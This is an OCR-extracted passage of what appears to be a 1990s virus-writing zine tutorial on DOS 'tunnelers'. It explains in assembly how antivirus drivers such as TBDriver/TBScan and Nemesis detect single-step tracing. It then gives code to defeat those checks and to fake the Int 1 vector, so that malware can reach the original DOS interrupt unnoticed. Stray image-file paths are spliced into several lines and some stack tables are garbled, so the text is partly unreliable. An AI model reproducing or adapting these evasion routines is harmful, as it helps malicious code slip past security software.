6)     *int     1*                              7, code, flags, 1234h7)      mov     cx,DEADh                        1234h
8)     *int     1*                              9, code, flags, 1234h
9)      push    cx                              DEADh, 1234h
a)     *int     1*                              b, code, flags, DEADh, 1234h
b)      push    bx                              5678h, DEADh, 1234h
c)     *int     1*                              d, code, flags, 5678h, DEADh...
d)      pop     ax      ;=5678h                 DEADh, 1234h
e)     *int     1*                              f, code, flags, DEADh, 1234h
f)      pop     bx      ;=DEADh                 1234h
10)    *int     1*                              11, code, flags, 1234h
11)     pop     cx      ;=1234h

Now, if we were to subtract SP by 6, this time our Stack Memory would look
like this,

        code, flags, 1234

Notice that the bottom 4 bytes are not 5678h, DEADh, thats because when an
Int 1 occurs, it overwrites what's underneath it.

(Hope I'm explaining this so you understand ;)

This is how TBdriver detects a tracer is in memory.

Here is the actual TBDriver code

        push    bx
        push    ax
        xchg    ax,bx
        pop     ax
        dec     sp
        dec     sp
        pop     bx
        cmp     ax,bx
        pop     bx

Now, when it's run without a tracer its Stack Memory looks like thisassume ax=1234, bx=5678

        Code                            Stack
        push    bx      ;bx=5678h       5678h

        push    ax      ;ax=1234h       1234h, 5678h

        xchg    ax,bx   ;ax=5678h       1234h, 5678h

        pop     ax      ;ax=1234h       5678h
        dec     sp                      34h, 5678h
        dec     sp                      1234h, 5678h

        pop     bx      ;ax=1234h       5678h

        cmp     ax,bx   ;ax=1234h       5678h

        pop     bx      ;ax=1234h

Underneath the stack, it looks like this

                        1234h,  5678h

Because the SP is decremented, and the stack untouched, 1234h is still

Now, if we traced it....

        Code                            Stackpush    bx      ;bx=5678h       5678h

       *int     1*                      ip, code, flags, 5678h

        push    ax      ;ax=1234h       1234h, 5678h

       *int     1*                      ip, code, flags, 1234h, 5678h

        xchg    ax,bx   ;ax=5678h       1234h, 5678h

       *int     1*                      ip, code, flags, 1234h, 5678h

        pop     ax      ;ax=1234h       5678h

       *int     1*                      ip, code, flags, 5678h

        dec     sp                      ags, 5678h
        dec     sp                      flags, 5678h

       *int     1*                      ip, code, flags, flags, 5678h

        pop     bx      ;ax=1234h       ;5678h
       *int     1*                      ip, code, flags, 5678h

        cmp     ax,bx   ;ax=1234h       5678h

       *int     1*                      ip, code, flags, 5678h

        pop     bx      ;ax=1234h

Now, when SP is decremented, because the last value pushed was the flags,
it overwrote the previously pushed AX in memory...... TB detects this,
notices its not what it expected it to be, and knows we are tracing it.

How do we get around this?  Well, in TBDriver, it's structured so that
the first two bytes are a short jump OVER a far jump to the original
DOS Int21h..... So we check for TBcode, and use the far jump data ;)

The code to fool TBScan looks like this;Place this code underneath the ItsNotJmpD: label.
        cmp     al,0fah                         ;CLI?
        jne     EndTBKiller
        cmp     ax,0fc9c                        ;Is it TBDriver?
        jne     EndTBKiller
        cmp     ax,05053                        ;TBDriver?
        jne     EndTBKiller
        sub     si,10
        mov     w[bp+_rip],si                   ;Run the original FAR jump
        inc     si                              ;skip EAh, so its data.
        jmp     FARJumpData


"Gee, I heard Nemesis is damn tricky?"  Eh? Not any more!  All Nemesis
does to find tracers is do a PUSHF, then check W[BP+xx],0404, JB,
Now, if the TF is on, the FLAGS is > 0404, so, we add a status bit that
tells us that the LAST OPCODE RUN was a PUSHF, so remove the TF ;)
Now is that simple or what?

The last method of killing a tracer while its running goes like this.

1.  Get the address of Int 1h
2.  Replace the first byte of the Int 1h seg:offs with an IRET opcode
3.  Remove the trace flag4.  Restore the frist byte of Int 1h

To do that the code looks like

        mov     ax,03501h
        int     21h
        mov     cl,0CFh
    es: xchg    byte ptr [bx], cl
        pop     ax
        and     ax,0feff
        push    ax
    es: xchg    byte ptr [bx], cl

Now, how do you defeat this?  Well, this *type* is pretty easy to avoid to.
The code goes something like this.

;Under the EndTBKiller: label goes this,

        cmp     al,0CDh                                 ;INT call?
        jne     End_Kill_Int_1_Killerscmp     byte ptr [si],021h                      ;21?
        jne     End_Kill_Int_1_Killers
        cmp     word ptr [bp+_ax],03501                 ;GET INT 1?
        jne     End_Kill_Int_1_Killers
    cs: or      byte ptr [_Status],2                    ;turn on fake int adres

;Under  RunNextTest_1:  put the code
        test    byte ptr [_Status],2            ;fake the address?
        je      RunNextTest_2
        xor     byte ptr [_Status],2
        mov     ax, word ptr [Int_01v]          ;get the orig, int 1 address
        mov     word ptr [bp+_bx],ax            ;put in into bx
        mov     ax, word ptr [Int_01v+2]
        mov     word ptr [bp+_es],ax            ;put it into es
        ;Now when it writes a byte to int 1, it
        ;will be writting to the unused int 1.

But what happens if they get our Int_1 address directly from the IVT?
Well..... you can check if they are putting a byte into our segment,
but, because of the miriad of different ways one can put a byte into
a position in memory, well, if you are a masochist you can come up with
that code all by yourself.

Well, I hope I've explained it so that you understand how tunnelers work.
If you want to see a different kind of tunneler check outART 2.2, the
full source code is in vlad#4. This tunneler does not use int 1, but ratherdecodes each single opcode.

Ah well, if you didn't understand then i really screwed up.